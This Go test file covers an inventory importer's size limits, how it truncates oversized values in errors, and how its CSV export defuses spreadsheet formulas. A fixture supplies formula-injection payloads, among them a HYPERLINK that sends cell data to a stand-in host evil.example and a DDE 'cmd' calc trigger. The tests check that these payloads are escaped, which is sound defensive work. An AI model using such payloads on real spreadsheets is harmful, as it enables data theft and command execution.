package inventory

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// TestSizeCapBeforeReading (issue 10, inventory): a file above the limit is
// refused by its size, before a byte is read: a 1 TiB sparse file answers
// at once, naming the size, the limit and the flag.
func TestSizeCapBeforeReading(t *testing.T) {
	path := filepath.Join(t.TempDir(), "huge.csv")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(1 << 40); err != nil {
		t.Fatal(err)
	}
	f.Close()
	_, err = ParseFileLimit(path, 0)
	want := path + ": larger than the import limit: 1099511627776 bytes are more than 20971520 bytes (raise it with --max-bytes if the file is right)"
	if !errors.Is(err, ErrTooLarge) || err.Error() != want {
		t.Fatalf("got %v\nwant %s", err, want)
	}
	// A file of exactly the limit is read.
	ok := filepath.Join(t.TempDir(), "ok.csv")
	text := "customer_id,name,tier\nC1,One,gold\n"
	if err := os.WriteFile(ok, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	if set, err := ParseFileLimit(ok, int64(len(text))); err != nil || len(set.Customers) != 1 {
		t.Fatalf("file of exactly the limit: %v", err)
	}
}

// TestSizeCapWhileReading: a pipe has no size to check first; the limit
// stops the parser when it is crossed.
func TestSizeCapWhileReading(t *testing.T) {
	for _, ext := range []string{".csv", ".yaml"} {
		path := filepath.Join(t.TempDir(), "pipe"+ext)
		if err := syscall.Mkfifo(path, 0o600); err != nil {
			t.Skipf("no FIFO here: %v", err)
		}
		done := make(chan struct{})
		go func() {
			defer close(done)
			w, err := os.OpenFile(path, os.O_WRONLY, 0)
			if err != nil {
				return
			}
			defer w.Close()
			_, _ = w.Write([]byte("customer_id,name,tier\n"))
			row := []byte("C1,One,gold\n")
			for range 1000 { // 12 kB; the reader gives up after 4 kB and the write fails
				if _, err := w.Write(row); err != nil {
					return
				}
			}
		}()
		_, err := ParseFileLimit(path, 4096)
		if !errors.Is(err, ErrTooLarge) || !strings.Contains(err.Error(), "it is more than 4096 bytes") {
			t.Errorf("%s: %v", ext, err)
		}
		<-done
	}
}

// TestBoundedEcho: a 20 MB bad cell is quoted in the error as its first
// 100 bytes and its size, not whole; so is a 1 MB column name.
func TestBoundedEcho(t *testing.T) {
	huge := strings.Repeat("x", 20<<20)
	cell := writeFile(t, "cell.csv", "customer_id,name,tier\nC1,One,"+huge+"\n")
	_, err := ParseFileLimit(cell, 64<<20)
	want := cell + `:2:8: tier: "` + strings.Repeat("x", 100) + `"… (20971520 bytes) is not one of ab_group, diamond, gold, silver, standard`
	if err == nil || err.Error() != want {
		t.Errorf("got %.300s", err)
	}
	col := writeFile(t, "col.csv", "customer_id,name,tier,"+huge[:1<<20]+"\nC1,One,gold,z\n")
	_, err = ParseFileLimit(col, 64<<20)
	if err == nil || len(err.Error()) > 400 || !strings.Contains(err.Error(), "… (1048576 bytes): unknown column") {
		t.Errorf("got %.400s (%d bytes)", err, len(err.Error()))
	}
	y := writeFile(t, "big.yaml", "customers:\n  - {id: C1, name: One, tier: "+huge+"}\n")
	_, err = ParseFileLimit(y, 64<<20)
	if err == nil || len(err.Error()) > 400 {
		t.Errorf("yaml: %.400s", err)
	}
	// Multi-byte text is cut at a rune boundary.
	if q := quote(strings.Repeat("广", 50)); !strings.HasSuffix(q, `"… (150 bytes)`) || strings.Count(q, "广") != 33 {
		t.Errorf("quote of runes: %s", q)
	}
}

// formulaInventory is the demo plus values a spreadsheet would run.
const formulaInventory = `customers:
  - {id: C900, name: '=HYPERLINK("http://evil.example/?"&A1,"click")', tier: gold, account_manager: "+SUM(A1:A9)"}
  - {id: "@C901", name: "-2+3+cmd|' /C calc'!A0", tier: silver}
  - {id: C902, name: "'=already an apostrophe", tier: silver}
contacts:
  - {id: K900, customer: C900, name: "@x", role: primary, phone: "+8613800000900"}
sites:
  - {id: S900, customer: C900, kind: cpe, name: "=1+1", lat: -33.8688, lon: 151.2093}
lines:
  - {circuit_id: "=L900", customer: C900, a_end_site: S900, z_end: "@pop", loss_pct: 0.25, rtt_ms: 1e3}
`

// TestExportRoundTrip (issue 10, inventory): every kind exported as CSV
// imports back unchanged (into the same database: all unchanged; into a
// fresh one: the same rows), and no cell of an export starts a formula.
func TestExportRoundTrip(t *testing.T) {
	ctx := context.Background()
	src, _ := newStore(t)
	mustImport(t, src, "testdata/demo.yaml")
	extra := filepath.Join(t.TempDir(), "formula.yaml")
	if err := os.WriteFile(extra, []byte(formulaInventory), 0o600); err != nil {
		t.Fatal(err)
	}
	mustImport(t, src, extra)
	kinds := []Kind{KindCustomers, KindElements, KindSites, KindContacts, KindLines}
	dir := t.TempDir()
	export := func(s *SQLStore) map[Kind][]byte {
		t.Helper()
		out := map[Kind][]byte{}
		for _, k := range kinds {
			var b bytes.Buffer
			if _, err := s.ExportCSV(ctx, k, &b); err != nil {
				t.Fatal(err)
			}
			out[k] = b.Bytes()
		}
		return out
	}
	first := export(src)
	var files []string
	for _, k := range kinds {
		text := string(first[k])
		for _, line := range strings.Split(text, "\n") {
			for _, cell := range strings.Split(line, ",") {
				cell = strings.TrimPrefix(cell, `"`)
				number := len(cell) > 1 && strings.Trim(cell[1:], "0123456789.") == "" // a phone, a coordinate
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !number {
					t.Errorf("%s export: cell %q would run in a spreadsheet", k, cell)
				}
			}
		}
		p := filepath.Join(dir, string(k)+".csv")
		if err := os.WriteFile(p, first[k], 0o600); err != nil {
			t.Fatal(err)
		}
		files = append(files, p)
	}
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, "'+SUM(A1:A9)", "'@C901", "''=already an apostrophe", "-33.8688"} {
		if !bytes.Contains(first[KindCustomers], []byte(want)) && !bytes.Contains(first[KindSites], []byte(want)) {
			t.Errorf("export lacks %s:\n%s", want, first[KindCustomers])
		}
	}
	// Back into the same database: nothing changes.
	for _, f := range files {
		if c := mustImport(t, src, f); c.Changed() != 0 {
			t.Errorf("%s re-imported with changes: %s", f, c)
		}
	}
	// Into a fresh one: the same export.
	dst, path := newStore(t)
	var out bytes.Buffer
	if err := ImportCommand(ctx, path, files, &out); err != nil {
		t.Fatalf("%v\n%s", err, out.String())
	}
	second := export(dst)
	for _, k := range kinds {
		if !bytes.Equal(first[k], second[k]) {
			t.Errorf("%s: export of the re-import differs:\n%s\n---\n%s", k, first[k], second[k])
		}
	}
	if c, err := dst.Customer(ctx, "C900"); err != nil || c.Name != `=HYPERLINK("http://evil.example/?"&A1,"click")` || c.AccountManager != "+SUM(A1:A9)" {
		t.Errorf("stored values after the round trip: %+v %v", c, err)
	}
}
